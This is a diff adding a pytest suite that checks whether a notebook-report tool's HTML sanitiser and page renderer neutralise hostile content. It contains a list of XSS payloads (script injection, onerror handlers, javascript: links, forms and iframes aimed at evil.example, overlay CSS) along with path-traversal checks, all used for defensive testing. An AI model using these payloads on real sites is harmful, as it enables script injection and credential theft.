@@ -1,0 +1,200 @@
+"""Nothing in a report runs, loads or covers the page, whatever a run left in its outputs."""
+
+import json
+import re
+import time
+from html.parser import HTMLParser
+
+import nbformat
+import pytest
+
+from kernelkit.reports import report_page, safe_html, shell
+from kernelkit.shown import Section, Shown
+
+PIXEL = "data:image/png;base64,iVBORw0KGgo="
+
+
+class Seen(HTMLParser):
+    """What a browser would make of a page: its tags and attributes."""
+
+    def __init__(self, page):
+        super().__init__()
+        self.tags = []
+        self.feed(page)
+
+    def handle_starttag(self, tag, attributes):
+        self.tags.append((tag, dict(attributes)))
+
+    handle_startendtag = handle_starttag
+
+
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
+    "<img src=x onerror=alert(1)>",
+    '<img src="https://evil.example/pixel.png">',
+    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">a</a><a href=" java\nscript:alert(1)">b</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">c</a>',
+    '<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>',
+    '<div style="position:fixed;top:0;background:url(//evil.example)">cover</div>',
+    '<form action="https://evil.example"><input name=password><button>go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
+    "<style>main{display:none}</style><link rel=stylesheet href=//evil.example>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<!--><script>alert(1)</script>-->",
+]
+FORBIDDEN = {
+    "script",
+    "iframe",
+    "object",
+    "embed",
+    "form",
+    "input",
+    "button",
+    "base",
+    "link",
+    "svg",
+    "math",
+    "audio",
+    "video",
+}
+
+
+def without_the_kits_own(page):
+    """The page less what the kit itself runs: two scripts and the data that they read."""
+    for name in (shell.CHART, report_page.SCRIPT):
+        page = page.replace(f"<script>{shell.source(name)}</script>", "", 1)
+    page = page.replace('<link rel="icon" href="data:,">', "", 1)
+    page, data = re.sub('<script type="application/json" id="data">[^<]*</script>', "", page), page
+    assert page != data
+    return page
+
+
+def check(page, own_styles=1):
+    seen = Seen(page).tags
+    names = [tag for tag, _ in seen]
+    assert not FORBIDDEN & set(names)
+    assert names.count("style") == own_styles
+    assert names.count("meta") == (3 if own_styles else 0)
+    for _tag, attributes in seen:
+        assert not [name for name in attributes if name.startswith("on")]
+        assert "evil" not in (attributes.get("src") or "")
+        assert "position" not in (attributes.get("style") or "")
+        assert "url(" not in (attributes.get("style") or "")
+        link = "".join((attributes.get("href") or "#").split()).lower()
+        assert link.startswith(("#", "http", "mailto:"))
+
+
+@pytest.mark.parametrize("html", ATTACKS)
+def test_markup_is_harmless(html):
+    check(safe_html.clean(html), own_styles=0)
+
+
+@pytest.mark.parametrize("html", ATTACKS)
+def test_a_report_is_harmless_wherever_it_stands(html):
+    data = {
+        "text/html": html,
+        "text/markdown": html,
+        "application/javascript": "alert(1)",
+        "image/svg+xml": html,
+        "text/plain": html,
+        "text/latex": html,
+    }
+    outputs = [
+        *(nbformat.v4.new_output("display_data", data={kind: data[kind]}) for kind in data),
+        nbformat.v4.new_output("stream", text=html),
+        nbformat.v4.new_output("error", ename=html, evalue=html, traceback=[html]),
+    ]
+    cell = nbformat.v4.new_code_cell(
+        html,
+        outputs=outputs,
+        metadata={
+            "tags": [f'"><{html}'.replace(",", ";")],
+            "magics_language": f'"><{html}',
+        },
+    )
+    isolated = nbformat.v4.new_output(
+        "display_data", data={"text/html": html}, metadata={"text/html": {"isolated": False}}
+    )
+    notebook = nbformat.v4.new_notebook(
+        metadata={
+            "title": html,
+            "language_info": {"name": f'"><{html}', "pygments_lexer": f'"><{html}'},
+            "widgets": {"application/vnd.jupyter.widget-state+json": {"x": html}},
+        }
+    )
+    heading = f'# {html}\n\n## "><{html}\n\n{html}\n\n[x](javascript:alert(1)) ![y](//evil.example)'
+    notebook.cells = [
+        nbformat.v4.new_markdown_cell(heading),
+        nbformat.v4.new_markdown_cell('## "><img src=x onerror=alert(1)>\n\n## b\n\n## c'),
+        nbformat.v4.new_raw_cell(html, metadata={"raw_mimetype": "text/html"}),
+        cell,
+        nbformat.v4.new_code_cell("1", outputs=[isolated]),
+    ]
+    metrics = {"macro_f1": html, "device": {html: html}, "versions": {html: html}}
+    page = report_page.render(notebook, metrics, Shown())
+    check(without_the_kits_own(page))
+    assert "Content-Security-Policy" in page
+
+
+@pytest.mark.parametrize("html", ATTACKS)
+def test_files_of_a_run_are_harmless_in_its_report(html, tmp_path):
+    picture = {"picture": html, "photo": PIXEL, html: html}
+    (tmp_path / "a.json").write_text(json.dumps([picture]))
+    (tmp_path / "b.csv").write_text(f'name,"F1"\n"{html.replace(chr(34), chr(39))}",0.5\n')
+    (tmp_path / "c.csv").write_text(f'"","<b>","{html.replace(chr(34), "")}"\nx,1,2\ny,3,4\n')
+    (tmp_path / "history.csv").write_text(f'phase,val_<b>{html.replace(",", "")}\n"{html}",1\n')
+    shown = Shown(
+        sections=(
+            Section(html, "a.json", "photos"),
+            Section("t", "a.json", "table", html),
+            Section("b", "b.csv", "bars"),
+            Section("c", "c.csv", "matrix"),
+            Section("outside", "../secret.png"),
+            Section("missing", "d.csv"),
+        )
+    )
+    notebook = nbformat.v4.new_notebook()
+    page = report_page.render(notebook, {}, shown, tmp_path, back={html: "#"})
+    assert page.count("<section") >= 5  # curves, photos, table, matrix, the notebook
+    check(without_the_kits_own(page))
+
+
+def test_tables_and_pictures_stay():
+    html = (
+        '<table class="dataframe" border="1"><thead><tr style="text-align: right;"><th>F1</th>'
+        f'</tr></thead><tbody><tr><td>0.9</td></tr></tbody></table><img src="{PIXEL}" alt="plot">'
+        '<a href="https://www.kaggle.com/code">kernel</a>'
+    )
+    seen = Seen(safe_html.clean(html)).tags
+    assert [tag for tag, _ in seen] == [tag for tag, _ in Seen(html).tags]
+    assert ("img", {"src": PIXEL, "alt": "plot"}) in seen
+    assert ("a", {"href": "https://www.kaggle.com/code"}) in seen
+    assert "0.9" in safe_html.clean(html)
+
+
+def test_a_style_sheet_is_no_text():
+    html = "<style scoped>\n.dataframe tbody tr { color: red }\n</style><p>words</p>"
+    assert safe_html.clean(html) == "<p>words</p>"
+
+
+@pytest.mark.parametrize("html", ["<b>" * 200_000, "<style" * 200_000, "x" * 10**7])
+def test_markup_without_end_is_left_out_and_said(html):
+    began = time.monotonic()
+    assert "are left out here" in safe_html.clean(html)
+    assert time.monotonic() - began < 5
+
+
+def test_a_report_shows_pictures_of_its_folder_and_no_other_file(tmp_path):
+    (tmp_path / "secret.png").write_bytes(b"the secret")
+    folder = tmp_path / "run"
+    folder.mkdir()
+    (folder / "own.png").write_bytes(b"its picture")
+    notebook = nbformat.v4.new_notebook()
+    notebook.cells = [nbformat.v4.new_markdown_cell("![a](../secret.png) ![b](own.png)")]
+    nbformat.write(notebook, folder / "run.ipynb")
+    page = report_page.write_report(folder / "run.ipynb", folder / "report.html").read_text()
+    assert "dGhlIHNlY3JldA" not in page
+    assert "aXRzIHBpY3R1cmU" in page
